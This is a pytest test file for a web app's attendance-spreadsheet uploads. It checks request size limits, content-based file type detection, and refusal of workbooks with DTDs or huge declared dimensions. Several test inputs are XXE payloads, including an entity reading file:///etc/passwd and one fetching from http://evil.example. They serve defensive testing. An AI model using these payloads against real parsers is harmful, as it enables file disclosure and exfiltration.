"""Uploads: a size limit on every request with a clear page; attendance workbooks checked by content,
refused with a clear message (never a server error) when they carry a DTD, declare a huge sheet or
are not workbooks at all."""
from __future__ import annotations

import io
import re
import zipfile
from html import unescape

import pytest
from factories import gen_user, login
from openpyxl import Workbook
from sqlalchemy import func, select

from webapp.domain import attendance_files
from webapp.domain.attendance_files import AttendanceFileError
from webapp.extensions import db
from webapp.models import AttendanceUpload, AuditRecord

HEADERS = ["Case Ref", "Client name", "Course", "Session date", "Attended?"]


def workbook(rows=(("OC26-000001", "Jane Doe", "Victim awareness", "01/11/2026", "Yes"),), sheet_xml=None) -> bytes:
    """An .xlsx made by openpyxl, with its first sheet's XML changed by `sheet_xml` (text -> text)."""
    book = Workbook()
    book.active.append(HEADERS)
    for row in rows:
        book.active.append(list(row))
    saved = io.BytesIO()
    book.save(saved)
    if sheet_xml is None:
        return saved.getvalue()
    source = zipfile.ZipFile(io.BytesIO(saved.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml(data.decode()).encode()
            target.writestr(info.filename, data)
    return out.getvalue()


def declaring(ref: str):
    return lambda xml: re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>', xml)


def with_doctype(doctype: str):
    return lambda xml: xml.replace("<worksheet", doctype + "<worksheet", 1)


def problems(data: bytes, name: str = "attendance.xlsx") -> str:
    with pytest.raises(AttendanceFileError) as refused:
        attendance_files.read_table(name, data)
    return str(refused.value)


def test_a_plain_workbook_is_read():
    headers, rows, first = attendance_files.read_table("attendance.xlsx", workbook())
    assert headers == HEADERS and rows[0][0] == "OC26-000001" and first == 2


@pytest.mark.parametrize("doctype", [
    "<!DOCTYPE worksheet>",
    '<!DOCTYPE worksheet [<!ENTITY name "Someone">]>',
    '<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">',
    '<!-- a comment first --><!doctype worksheet [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
])
def test_a_workbook_with_a_document_type_declaration_is_refused_clearly(doctype):
    assert "document type declaration" in problems(workbook(sheet_xml=with_doctype(doctype)))


def test_a_workbook_declaring_every_column_is_refused_before_reading_rows():
    huge = workbook(sheet_xml=declaring("A1:XFD20000"))
    assert len(huge) < 10_000
    assert "wider than 50 columns" in problems(huge)


def test_a_workbook_declaring_too_many_rows_is_refused():
    assert "more than 20,000 rows" in problems(workbook(sheet_xml=declaring("A1:E30000")))


def test_cells_beyond_the_columns_read_are_not_padded_or_read():
    far = workbook(sheet_xml=lambda xml: declaring("A1:E3")(xml).replace(
        "</sheetData>", '<row r="3"><c r="XFD3" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'))
    _, rows, _ = attendance_files.read_table("attendance.xlsx", far)
    assert all(len(row) <= attendance_files.MAX_COLUMNS for row in rows) and "far away" not in str(rows)


@pytest.mark.parametrize("name, data, message", [
    ("attendance.xlsx", b"Case Ref,Client name\nOC26-000001,Jane Doe\n", "not an Excel workbook"),
    ("attendance.xlsx", b"PK\x03\x04 not really a zip", "not an Excel workbook"),
    ("attendance.csv", b"PK\x05\x06" + b"\x00" * 18, "not an Excel workbook"),  # an empty zip, named .csv
])
def test_the_type_is_checked_by_content_not_by_name(name, data, message):
    assert message in problems(data, name)


def test_a_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "not an Excel workbook" in problems(out.getvalue())


# --------------------------------------------------------------------------- through the web


def _upload(client, data: bytes, name: str = "attendance.xlsx"):
    return client.post("/compliance/attendance", data={"provider": "Northgate Awareness Service",
                                                        "file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


def test_an_entity_workbook_gets_a_clear_message_on_the_page(app, client):
    with app.app_context():
        clerk = gen_user("clerk")
    login(client, clerk)
    bad = workbook(sheet_xml=lambda xml: with_doctype('<!DOCTYPE worksheet [<!ENTITY a "x">]>')(xml))
    response = _upload(client, bad)
    assert response.status_code == 422
    assert "document type declaration" in unescape(response.text)
    with app.app_context():
        assert db.session.scalar(select(func.count(AttendanceUpload.id))) == 0


def test_a_request_larger_than_the_limit_gets_a_clear_page(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 64 * 1024)
    with app.app_context():
        clerk = gen_user("clerk")
    # Signed out, on the sign-in page: refused before the body is parsed.
    refused = client.post("/login", data={"username": "x", "password": "y", "padding": "z" * 200_000})
    assert refused.status_code == 413 and "The file is too big" in unescape(refused.text)
    login(client, clerk)
    response = _upload(client, b"Case Ref\n" + b"OC26-000001\n" * 20_000, "attendance.csv")
    assert response.status_code == 413
    page = unescape(response.text)
    assert "The file is too big" in page and "larger than 0.0625 MB" in page and "OFFICIAL-SENSITIVE" in page
    with app.app_context():
        assert db.session.scalar(select(func.count(AttendanceUpload.id))) == 0
        assert db.session.scalar(select(func.count(AuditRecord.id)).where(AuditRecord.action == "collect")) == 0


def test_the_default_limit_is_set(app):
    assert app.config["MAX_CONTENT_LENGTH"] == 25 * 1024 * 1024
